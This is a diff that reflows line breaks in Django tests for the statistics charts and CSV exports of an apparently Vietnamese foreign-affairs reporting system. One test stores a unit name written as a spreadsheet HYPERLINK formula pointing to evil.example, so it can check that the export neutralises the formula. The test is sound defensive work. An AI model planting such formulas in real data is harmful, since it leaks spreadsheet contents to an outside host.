@@ -25,8 +25,14 @@ def test_every_chart_is_drawn_from_the_register(login):
     page = login("chuyenvien").get("/thong-ke/", {"period": "2021"})
     assert page.status_code == 200
     by_slug = charts(page)
-    assert list(by_slug) == ["doan-theo-thang", "doan-theo-quoc-gia", "vien-tro-theo-nha-tai-tro",
-                             "vien-tro-theo-nam", "ngu-dan", "dung-han"]
+    assert list(by_slug) == [
+        "doan-theo-thang",
+        "doan-theo-quoc-gia",
+        "vien-tro-theo-nha-tai-tro",
+        "vien-tro-theo-nam",
+        "ngu-dan",
+        "dung-han",
+    ]
     year = evaluate(["incoming_delegations", "aid"], parse("2021"), None)
     months = by_slug["doan-theo-thang"]
     assert months.labels[0] == "Tháng 1" and len(months.labels) == 12
@@ -49,9 +55,12 @@ def test_fishermen_still_detained_is_read_at_each_month_end(login):
 def test_delegations_by_country_count_both_directions_with_names_in_vietnamese(login):
     sngv = Unit.objects.get(code="SNgV")
     for day in ("2023-02-01", "2023-03-01", "2023-04-01"):
-        IncomingDelegation.objects.create(unit=sngv, title="Đoàn Hàn Quốc", country="KR", start_date=day, person_visits=2)
-    IncomingDelegation.objects.create(unit=sngv, title="Đoàn Lào", country="LA", start_date="2023-05-01",
-                                      person_visits=2)
+        IncomingDelegation.objects.create(
+            unit=sngv, title="Đoàn Hàn Quốc", country="KR", start_date=day, person_visits=2
+        )
+    IncomingDelegation.objects.create(
+        unit=sngv, title="Đoàn Lào", country="LA", start_date="2023-05-01", person_visits=2
+    )
     chart = charts(login("chuyenvien").get("/thong-ke/", {"period": "2023"}))["doan-theo-quoc-gia"]
     assert chart.labels[:2] == ["Hàn Quốc", "Lào"]
     assert series(chart, "Đoàn vào")[:2] == [3, 1]
@@ -59,8 +68,9 @@ def test_delegations_by_country_count_both_directions_with_names_in_vietnamese(l
 
 def test_aid_by_donor_is_in_millions_of_dong(login):
     sngv = Unit.objects.get(code="SNgV")
-    ForeignAid.objects.create(unit=sngv, title="Nước sạch", donor="KOICA", country="KR", value_vnd=7_037_000_000,
-                              approved_on="2023-06-01")
+    ForeignAid.objects.create(
+        unit=sngv, title="Nước sạch", donor="KOICA", country="KR", value_vnd=7_037_000_000, approved_on="2023-06-01"
+    )
     chart = charts(login("chuyenvien").get("/thong-ke/", {"period": "2023"}))["vien-tro-theo-nha-tai-tro"]
     assert chart.labels == ["Hàn Quốc"]
     assert series(chart, "Giá trị (triệu đồng)") == [7037]
@@ -69,14 +79,16 @@ def test_aid_by_donor_is_in_millions_of_dong(login):
 
 def test_a_reporter_charts_its_own_unit_whatever_it_asks(login):
     vp, sngv = Unit.objects.get(code="VP"), Unit.objects.get(code="SNgV")
-    IncomingDelegation.objects.create(unit=vp, title="Đoàn Nhật Bản", country="JP", start_date="2021-03-05",
-                                      person_visits=4)
+    IncomingDelegation.objects.create(
+        unit=vp, title="Đoàn Nhật Bản", country="JP", start_date="2021-03-05", person_visits=4
+    )
     own = evaluate(["incoming_delegations"], parse("2021"), [vp.pk])["incoming_delegations"]["groups"].period
     for query in ({"period": "2021"}, {"period": "2021", "unit": sngv.pk}):
         chart = charts(login("vanphong").get("/thong-ke/", query))["doan-theo-thang"]
         assert sum(series(chart, "Đoàn vào 2021")) == own == 1
-    text = login("vanphong").get("/thong-ke/doan-theo-quoc-gia.csv", {"period": "2021", "unit": sngv.pk}) \
-        .content.decode()
+    text = (
+        login("vanphong").get("/thong-ke/doan-theo-quoc-gia.csv", {"period": "2021", "unit": sngv.pk}).content.decode()
+    )
     assert list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))[1:] == [["Nhật Bản", "1", "0"]]
 
 
@@ -115,11 +127,17 @@ def test_compliance_counts_the_deadlines_of_the_period_per_unit(login, clock):
 
     clock(2023, 12, 31)
     sngv, vp, dh = (Unit.objects.get(code=code) for code in ("SNgV", "VP", "DHPVD"))
-    request = ReportRequest.objects.create(direction="outgoing", subject="Báo cáo hội nhập quốc tế", unit=sngv,
-                                           template=ReportTemplate.objects.get(code="integration"),
-                                           period_code="2023", deadline=dt.date(2023, 11, 20))
-    Submission.objects.create(request=request, unit=vp, state="accepted",
-                              submitted_at=timezone.make_aware(dt.datetime(2023, 11, 18, 9)))
+    request = ReportRequest.objects.create(
+        direction="outgoing",
+        subject="Báo cáo hội nhập quốc tế",
+        unit=sngv,
+        template=ReportTemplate.objects.get(code="integration"),
+        period_code="2023",
+        deadline=dt.date(2023, 11, 20),
+    )
+    Submission.objects.create(
+        request=request, unit=vp, state="accepted", submitted_at=timezone.make_aware(dt.datetime(2023, 11, 18, 9))
+    )
     Submission.objects.create(request=request, unit=dh, state="not_started")
     chart = charts(login("chuyenvien").get("/thong-ke/", {"period": "2023"}))["dung-han"]
     rates = dict(zip(chart.labels, series(chart, "Tỷ lệ đúng hạn (%)")))
@@ -139,9 +157,14 @@ def test_a_units_name_typed_like_a_formula_is_text_in_the_csv(login, clock):
     clock(2023, 12, 31)
     sngv, vp = Unit.objects.get(code="SNgV"), Unit.objects.get(code="VP")
     Unit.objects.filter(pk=vp.pk).update(short_name='=HYPERLINK("http://evil.example/?x="&A1,"Bấm")')
-    request = ReportRequest.objects.create(direction="outgoing", subject="Báo cáo hội nhập quốc tế", unit=sngv,
-                                           template=ReportTemplate.objects.get(code="integration"),
-                                           period_code="2023", deadline=dt.date(2023, 11, 20))
+    request = ReportRequest.objects.create(
+        direction="outgoing",
+        subject="Báo cáo hội nhập quốc tế",
+        unit=sngv,
+        template=ReportTemplate.objects.get(code="integration"),
+        period_code="2023",
+        deadline=dt.date(2023, 11, 20),
+    )
     Submission.objects.create(request=request, unit=vp, state="not_started")
     text = login("chuyenvien").get("/thong-ke/dung-han.csv", {"period": "2023"}).content.decode()
     rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
